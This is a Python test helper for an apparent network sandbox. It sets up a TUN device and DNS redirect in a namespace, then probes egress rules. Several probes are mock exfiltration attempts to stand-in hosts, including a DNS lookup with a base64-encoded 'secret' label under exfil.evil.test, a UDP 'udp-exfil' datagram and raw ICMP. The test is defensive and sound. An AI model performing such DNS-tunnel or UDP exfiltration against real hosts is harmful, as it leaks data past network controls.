"""Run inside `unshare -Urnm`: a fresh user, network and mount namespace.

Creates a TUN device with IPv4 and IPv6 default routes through it (as warden-sandbox
will for a session), points /etc/resolv.conf at an address reached only through the
TUN, hands the TUN fd to the test over SCM_RIGHTS on the Unix socket argv[1], waits
for "go", runs the clients and prints one JSON object per client on stdout.
"""
import fcntl, json, os, socket, struct, subprocess, sys, tempfile, time

TUNSETIFF = 0x400454CA
IFF_TUN, IFF_NO_PI = 0x0001, 0x1000

def sh(*cmd):
    subprocess.run(cmd, check=True)

sock_path, port = sys.argv[1], sys.argv[2]
fd = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH", b"wtun0", IFF_TUN | IFF_NO_PI))
sh("ip", "link", "set", "lo", "up")
sh("ip", "link", "set", "wtun0", "up", "mtu", "1500")
sh("ip", "addr", "add", "192.0.2.2/24", "dev", "wtun0")
sh("ip", "-6", "addr", "add", "2001:db8::2/64", "dev", "wtun0", "nodad")
sh("ip", "route", "add", "default", "dev", "wtun0")
sh("ip", "-6", "route", "add", "default", "dev", "wtun0")
resolv = tempfile.NamedTemporaryFile("w", delete=False)
resolv.write("nameserver 192.0.2.53\noptions timeout:2 attempts:1\n")
resolv.close()
sh("mount", "--bind", resolv.name, "/etc/resolv.conf")
os.unlink(resolv.name)  # the bind mount keeps it; nothing is left in /tmp

s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sock_path)
socket.send_fds(s, [b"tun"], [fd])
os.close(fd)
assert s.recv(16).startswith(b"go")

env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}

def curl(name, url):
    t0 = time.monotonic()
    p = subprocess.run(["curl", "-s", "-g", "--max-time", "10", "-o", "-", "-w", "\n%{http_code}", url],
                       capture_output=True, text=True, env=env)
    body, _, code = p.stdout.rpartition("\n")
    print(json.dumps({"name": name, "exit": p.returncode, "code": code, "body": body, "secs": round(time.monotonic() - t0, 2)}), flush=True)

def resolve(name, host):
    try:
        addrs = sorted({a[4][0] for a in socket.getaddrinfo(host, 80, proto=socket.IPPROTO_TCP)})
        print(json.dumps({"name": name, "addrs": addrs}), flush=True)
    except socket.gaierror as e:
        print(json.dumps({"name": name, "error": str(e)}), flush=True)

resolve("resolve_allowed", "allowed.test")
resolve("resolve_denied", "c2VjcmV0.exfil.evil.test")
curl("allowed_by_name", f"http://allowed.test:{port}/via-tun")
curl("http_rule_denied", f"http://allowed.test:{port}/forbidden")
curl("denied_by_name", f"http://evil.test:{port}/")
curl("raw_ip", f"http://192.0.2.99:{port}/")
curl("unmapped_pool_ip", f"http://198.18.200.200:{port}/")
curl("raw_ipv6", f"http://[2001:db8::99]:{port}/")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"udp-exfil", ("192.0.2.99", 9999))
u.close()
try:
    icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    icmp.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("192.0.2.99", 0))
    icmp.close()
    print(json.dumps({"name": "icmp_sent"}), flush=True)
except OSError as e:
    print(json.dumps({"name": "icmp_error", "error": str(e)}), flush=True)
